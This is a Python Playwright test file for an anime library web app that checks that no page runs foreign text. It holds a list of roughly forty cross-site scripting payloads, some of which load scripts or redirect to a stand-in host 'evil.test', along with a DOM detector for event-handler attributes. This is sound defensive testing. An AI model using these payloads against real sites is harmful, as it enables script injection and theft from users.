"""Foreign texts stay texts: whatever a site, plugin, file or person writes, no page runs it."""

import logging
import os
from collections.abc import Callable, Iterator
from datetime import UTC, datetime
from pathlib import Path
from typing import Any
from urllib.parse import quote

import pytest
from playwright.sync_api import Page, expect

from aniworld_core.entities import (
    GER_DUB,
    Episode,
    EpisodeId,
    HistoryEntry,
    HistoryKind,
    Scope,
    Series,
    SeriesKey,
)
from aniworld_core.errors import NoStream, Unavailable
from aniworld_core.events import DownloadFailed
from aniworld_core.plugins import PluginManager
from aniworld_core.testing.world import World
from tools.browser.house import House, served
from tools.browser.watch import Watch

pytestmark = pytest.mark.needs("chromium")

Entering = Callable[..., tuple[Page, Watch]]

SCRIPT = "alert(document.domain)"
BASE = (
    f"<script>{SCRIPT}</script>",
    f"<ScRiPt >{SCRIPT}</sCrIpT >",
    "<script src=http://evil.test/x.js></script>",
    f"<scr<script>ipt>{SCRIPT}</scr</script>ipt>",
    f"<img src=x onerror={SCRIPT}>",
    f"<img/src=x/onerror={SCRIPT}//",
    f"<svg onload={SCRIPT}>",
    f"<svg><script>{SCRIPT}</script></svg>",
    f"<svg><animate onbegin={SCRIPT} attributeName=x dur=1s>",
    f"<svg><a xlink:href=javascript:{SCRIPT}><text x=9 y=9>x</text></a></svg>",
    f"<math><maction actiontype=statusline xlink:href=javascript:{SCRIPT}>x</maction></math>",
    f"<body onload={SCRIPT}>",
    f"<input autofocus onfocus={SCRIPT}>",
    f"<select autofocus onfocus={SCRIPT}><option>x</select>",
    f"<details open ontoggle={SCRIPT}>x</details>",
    f"<video><source onerror={SCRIPT}></video>",
    f"<audio src=x onerror={SCRIPT}></audio>",
    f"<iframe src=javascript:{SCRIPT}></iframe>",
    f"<iframe srcdoc='<script>{SCRIPT}</script>'></iframe>",
    f"<object data=javascript:{SCRIPT}></object>",
    "<embed src=http://evil.test/x.swf>",
    f"<a href=javascript:{SCRIPT} autofocus>x</a>",
    "<base href=http://evil.test/>",
    "<meta http-equiv=refresh content='0;url=http://evil.test/'>",
    "<link rel=stylesheet href=http://evil.test/x.css>",
    "<style>@import 'http://evil.test/x.css';</style>",
    "<form action=http://evil.test/><button autofocus>x</button></form>",
    f"<p style=animation-name:x onanimationstart={SCRIPT}>x</p>",
    f"<div hx-get=/api/anime hx-trigger=load hx-on:htmx:load={SCRIPT}>x</div>",
    f"<div hx-on::after-request={SCRIPT} hx-post=/logout hx-trigger=load>x</div>",
    f"<template><script>{SCRIPT}</script></template>",
    f"<noscript><p title='</noscript><img src=x onerror={SCRIPT}>'></noscript>",
    f"</title><script>{SCRIPT}</script>",
    f"</textarea><script>{SCRIPT}</script>",
    f"</select></option><img src=x onerror={SCRIPT}>",
    f"--><script>{SCRIPT}</script><!--",
    f"]]><script>{SCRIPT}</script>",
    f'" autofocus onfocus="{SCRIPT}',
    f"' autofocus onfocus='{SCRIPT}",
    f"javascript:{SCRIPT}//http://",
)
FRAMES = ('">{}', "'>{}", "{{{{ {} }}}}{{% raw %}}", "&lt;{}&#60;", "</script></style>\u2028{}")
"""What a payload is put into at full size, so that it breaks out of where it is put."""

KEY = SeriesKey("serie-1")


def payloads() -> tuple[str, ...]:
    """Return 40 texts that would like to be markup, or 240 when there is time."""
    if os.environ.get("HYPOTHESIS_PROFILE") != "thorough":
        return BASE
    return (*BASE, *(frame.format(one) for frame in FRAMES for one in BASE))


def hostile_series() -> Iterator[Series]:
    """Yield a series a payload; the first has all of them for its episodes, genres and so on."""
    texts = payloads()
    episodes = tuple(
        Episode(
            id=EpisodeId(1, number),
            title=text,
            original_title=text,
            languages=(GER_DUB,),
            hosters=(text,),
        )
        for number, text in enumerate(texts, 1)
    )
    for number, text in enumerate(texts, 1):
        yield Series(
            key=SeriesKey(f"serie-{number}"),
            provider="site",
            ref=f"serie-{number}",
            title=text,
            aliases=(text,),
            description=" ".join(texts) if number == 1 else text,
            genres=texts if number == 1 else (text,),
            link=f"javascript:{SCRIPT}",
            cover=f"javascript:{SCRIPT}",
            folder=text.replace("/", "|"),
            episodes=episodes if number == 1 else episodes[:1],
        )


@pytest.fixture(scope="module")
def world() -> World:
    """Return a catalogue in which every text is a payload."""
    world = World()
    for one in hostile_series():
        world.offer(one)
    for number, text in enumerate(payloads(), 1):
        world.link(EpisodeId(1, number), f"http://hoster.test/{number}", hoster=text)
        for link in world.links[EpisodeId(1, number)]:
            world.streams[link.url] = NoStream(text)
    return world


@pytest.fixture(scope="module")
def house(world: World, tmp_path_factory: pytest.TempPathFactory) -> Iterator[House]:
    """Serve a library that has heard every payload from everywhere."""
    directory = tmp_path_factory.mktemp("payloads")
    (directory / "library").mkdir()
    plugins = PluginManager()
    plugins.add(world, "world")
    for text in payloads():
        plugins.note_broken(text, RuntimeError(text))
    settings: dict[str, Any] = {
        "library": str(directory / "library"),
        "store": "memory:",
        "downloads": {"hosters": list(payloads()), "reserve": 0, "attempts": 1},
        "plugins": {"web": {"download": False}},
    }
    with served(directory, settings, plugins=plugins) as house:
        fill(house, directory / "library")
        yield house


def fill(house: House, root: Path) -> None:
    """Let every part of the library hear every payload."""
    library, log = house.library, logging.getLogger("aniworld_core")
    library.store.series.put(*hostile_series())
    library.queue.add(KEY, [EpisodeId(1, number) for number, _ in enumerate(payloads(), 1)])
    library.downloads.work()
    library.queue.add(SeriesKey("serie-2"), [EpisodeId(1, 1)])
    for number, text in enumerate(payloads(), 1):
        folder = root / f"{number} {text.replace('/', '|')}"[:120]
        folder.mkdir()
        (folder / "S01E01.mp4").write_bytes(b"video " * 4000)
        log.warning("%s", text)
        entry = HistoryEntry(
            key=KEY,
            episode=EpisodeId(1, 1),
            kind=HistoryKind.FAILED,
            at=datetime.now(UTC),
            hoster=text,
            text=text,
            path=text,
        )
        library.store.history.append(entry)
        house.site.access.keys.add(text, scope=Scope.READ)
    library.scanner.scan(full=True)


def addresses(house: House) -> Iterator[str]:
    """Yield every page that shows foreign texts."""
    yield from ("/", "/?view=table&q=script", "/missing", "/folders", "/folders/unclear", "/scan")
    yield from (f"/series/{KEY}{part}" for part in ("", "/history", "/remove", "/folder"))
    yield from (f"/series/serie-{number}" for number in range(2, len(BASE), 8))
    yield from ("/queue", "/queue?show=failed", "/queue/empty?show=failed", "/add?q=alert")
    yield from (f"/add?q={quote(text)}" for text in BASE[::10])
    folder = house.library.scanner.scan().unmatched[0]
    yield f"/folders/choose?folder={quote(folder)}"
    yield from ("/settings", "/settings/plugins", "/settings/access", "/settings/backups")
    yield from ("/system", "/system/logs", "/system/migration", "/setup/folder", "/setup/sites")
    yield f"/setup/folder?folder={quote(BASE[4])}"
    yield from (f"/login?next={quote(text)}" for text in BASE[-3:])
    key = house.site.access.keys.all()[0]
    yield f"/settings/access/keys/{key.id}"


def expect_clean(page: Page, place: str) -> None:
    """Let everything run that would, and check that no foreign text became an element or attribute."""
    page.evaluate("new Promise((done) => requestAnimationFrame(() => setTimeout(done)))")
    strange = page.evaluate(
        """[...document.querySelectorAll("*")].filter((one) =>
          [...one.attributes].some((name) => /^(on|hx-on|style$|srcdoc$)/.test(name.name))
          || /^(iframe|object|embed|base|style|video|audio|math|template)$/i.test(one.tagName)
          || (one.tagName === "SCRIPT" && !one.src)
          || /^javascript:/i.test(one.getAttribute("href") ?? "")
        ).map((one) => one.outerHTML)"""
    )
    assert strange == [], place


def test_no_page_runs_what_others_wrote(house: House, enter: Entering) -> None:
    page, watch = enter(house)
    assert len(set(payloads())) >= 40
    seen = ""
    for address in addresses(house):
        answer = page.goto(address)
        assert answer is not None
        assert answer.status == 200, address
        expect_clean(page, address)
        seen += page.get_by_role("main").inner_text()
    assert [text for text in BASE if text not in seen] == []  # each was shown, as text
    assert watch.faults == []


def test_no_script_of_ours_makes_elements_of_what_it_hears(house: House, enter: Entering) -> None:
    page, _ = enter(house)
    page.goto("/queue")
    row = page.locator("[data-sortable] [data-item]").first
    number = int(row.get_attribute("data-item") or 0)
    said = page.locator("#announced")
    for text in payloads():
        failed = DownloadFailed(
            id=number, key=SeriesKey("serie-2"), episode=EpisodeId(1, 1), reason=text
        )
        house.library.emit(failed)
        expect(said).to_contain_text(text.replace("\u2028", " "))
    expect_clean(page, "messages")


def test_no_error_of_a_site_becomes_an_element(house: House, world: World, enter: Entering) -> None:
    page, _ = enter(house)
    world.provider_error = Unavailable(" ".join(payloads()), hint=" ".join(payloads()))
    try:
        page.goto("/add?q=anything")
        expect(page.get_by_role("main")).to_contain_text(BASE[0])
        expect_clean(page, "search")
        page.goto(f"/series/{KEY}")
        page.get_by_role("button", name="Refresh").click()
        expect(page.locator("#notes")).to_contain_text("<script>")
        expect_clean(page, "note")
    finally:
        world.provider_error = None


@pytest.mark.parametrize("text", [BASE[0], BASE[4]])
def test_even_what_became_an_element_would_not_run(
    house: House, enter: Entering, text: str
) -> None:
    page, watch = enter(house)
    page.goto("/missing")
    # The picture of the payload is answered, so that nothing is told of it once the test is over.
    page.route("**/x", lambda route: route.fulfill(content_type="image/png", body=b""))
    page.evaluate(
        """(text) => new Promise((done) => {
          document.addEventListener("securitypolicyviolation", done, { once: true });
          document.body.append(document.createRange().createContextualFragment(text));
        })""",
        text,
    )
    assert any("content security policy" in fault for fault in watch.faults)  # it would be heard of
    assert not any("dialog" in fault for fault in watch.faults)
    watch.faults.clear()
